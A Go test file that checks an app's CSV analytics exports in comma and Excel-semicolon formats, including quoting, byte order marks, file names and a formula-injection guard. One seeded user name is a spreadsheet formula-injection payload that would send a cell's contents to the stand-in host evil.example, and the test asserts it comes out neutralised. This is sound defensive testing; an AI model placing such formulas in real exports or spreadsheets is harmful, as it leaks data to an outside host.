package analytics_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pocketbase/pocketbase/core"

	"counterpart/hooks/analytics"
	"counterpart/hooks/apptest"
	"counterpart/hooks/usage"
)

// fetchRaw fetches an export and returns the answer and its body unparsed.
func (e *env) fetchRaw(t *testing.T, path, token string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest("GET", e.srv.URL+path, nil)
	must(t, err)
	req.Header.Set("Authorization", token)
	res, err := e.srv.Client().Do(req)
	must(t, err)
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	must(t, err)
	return res, body
}

// parseCSV reads body as CSV with the given separator, after a UTF-8 BOM if any.
func parseCSV(t *testing.T, body []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF"))))
	r.Comma = comma
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	must(t, err)
	return rows
}

// TestExportFormats: every CSV export comes as the standard comma-separated
// file by default and, with format=excel-semicolon, separated by semicolons
// and prefixed with a UTF-8 byte order mark, holding the same cells — both
// with the formula guard.
func TestExportFormats(t *testing.T) {
	e := newEnv(t)
	seed(t, e)
	member := e.user(t, "member@smith.example")
	member.Set("name", `=HYPERLINK("http://evil.example/?"&A1;"Pät; Müller")`)
	must(t, e.app.Save(member))
	must(t, usage.Record(e.app, usage.Event{Tenant: e.smith.Id, Kind: usage.KindAnswerCompleted, User: member.Id,
		Model: "-2+3", At: time.Date(2026, 11, 1, 12, 0, 0, 0, time.UTC)}))
	must(t, usage.Rollup(e.app))
	convs, err := e.app.FindCollectionByNameOrId("conversations")
	must(t, err)
	conv := core.NewRecord(convs)
	conv.Load(map[string]any{"tenant": e.smith.Id, "user": member.Id, "title": "Bremsbeläge; vorne"})
	must(t, e.app.Save(conv))

	manager := apptest.Token(t, e.app, "manager@smith.example")
	it := apptest.Token(t, e.app, apptest.Superuser(t, e.app))
	for _, ex := range []struct {
		name, path, token string
		header            []string
		file              string
	}{
		{"usage", "/api/analytics/export/usage.csv" + novRange, manager, analytics.UsageHeader, "counterpart-usage-smith-2026-11-01-to-2026-11-03"},
		{"IT's usage", "/api/admin/analytics/export/usage.csv" + novRange + "&tenant=smith", it, analytics.UsageHeader, "counterpart-usage-smith-2026-11-01-to-2026-11-03"},
		// the conversation is from today: the default range (the last 30 days)
		{"conversations", "/api/analytics/export/conversations.csv?", manager, analytics.ConversationsHeader, "counterpart-conversations-smith-"},
	} {
		t.Run(ex.name, func(t *testing.T) {
			res, std := e.fetchRaw(t, ex.path, ex.token)
			if res.StatusCode != http.StatusOK {
				t.Fatalf("standard: %d %s", res.StatusCode, std)
			}
			if bytes.HasPrefix(std, []byte("\uFEFF")) {
				t.Error("the standard export starts with a byte order mark")
			}
			if !bytes.HasPrefix(std, []byte(strings.Join(ex.header, ",")+"\n")) {
				t.Errorf("the standard export does not start with its comma-separated header: %.80q", std)
			}
			cd := res.Header.Get("Content-Disposition")
			if !strings.HasPrefix(cd, `attachment; filename="`+ex.file) || !strings.HasSuffix(cd, `.csv"`) || strings.Contains(cd, "excel") {
				t.Errorf("standard Content-Disposition = %q", cd)
			}
			explicit, same := e.fetchRaw(t, ex.path+"&format=csv", ex.token)
			if explicit.StatusCode != http.StatusOK || !bytes.Equal(same, std) {
				t.Errorf("format=csv differs from the default: %d", explicit.StatusCode)
			}

			res, xl := e.fetchRaw(t, ex.path+"&format=excel-semicolon", ex.token)
			if res.StatusCode != http.StatusOK {
				t.Fatalf("excel-semicolon: %d %s", res.StatusCode, xl)
			}
			if !bytes.HasPrefix(xl, []byte("\uFEFF"+strings.Join(ex.header, ";")+"\n")) {
				t.Errorf("the Excel export does not start with a BOM and its semicolon-separated header: %.80q", xl)
			}
			if xcd := res.Header.Get("Content-Disposition"); xcd != strings.TrimSuffix(cd, `.csv"`)+`-excel.csv"` {
				t.Errorf("Excel Content-Disposition = %q (standard %q)", xcd, cd)
			}
			if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
				t.Errorf("Excel Content-Type = %q", ct)
			}
			stdRows, xlRows := parseCSV(t, std, ','), parseCSV(t, xl, ';')
			if !slices.EqualFunc(stdRows, xlRows, slices.Equal[[]string]) {
				t.Errorf("the two formats hold different cells:\n%v\n%v", stdRows, xlRows)
			}
			if len(xlRows) < 2 {
				t.Fatalf("no data rows: %v", xlRows)
			}
			for _, r := range xlRows[1:] {
				for _, c := range r {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("a cell starts a formula: %q", c)
					}
				}
			}
		})
	}

	// a cell with a semicolon is quoted, and the guard holds, in the Excel variant
	_, xl := e.fetchRaw(t, "/api/analytics/export/usage.csv"+novRange+"&format=excel-semicolon", manager)
	if !bytes.Contains(xl, []byte(`"'=HYPERLINK(""http://evil.example/?""&A1;""Pät; Müller"")"`)) {
		t.Errorf("the name is not quoted and neutralised: %s", xl)
	}
	if !bytes.Contains(xl, []byte(";'-2+3;")) {
		t.Errorf("the model is not neutralised: %s", xl)
	}
	_, xl = e.fetchRaw(t, "/api/analytics/export/conversations.csv?format=excel-semicolon", manager)
	if !bytes.Contains(xl, []byte(`"Bremsbeläge; vorne"`)) {
		t.Errorf("the title with a semicolon is not quoted: %s", xl)
	}

	// an unknown format is refused before anything is written, and is not an export
	before, err := e.app.CountRecords(usage.Events, nil)
	must(t, err)
	res, body := e.fetchRaw(t, "/api/analytics/export/usage.csv"+novRange+"&format=xls", manager)
	if res.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), "excel-semicolon") {
		t.Errorf("unknown format: %d %s", res.StatusCode, body)
	}
	res, _ = e.fetchRaw(t, "/api/analytics/export/conversations.csv?format=tsv", manager)
	if res.StatusCode != http.StatusBadRequest {
		t.Errorf("unknown conversations format: %d", res.StatusCode)
	}
	after, err := e.app.CountRecords(usage.Events, nil)
	must(t, err)
	if after != before {
		t.Errorf("refused exports wrote %d usage events", after-before)
	}
}
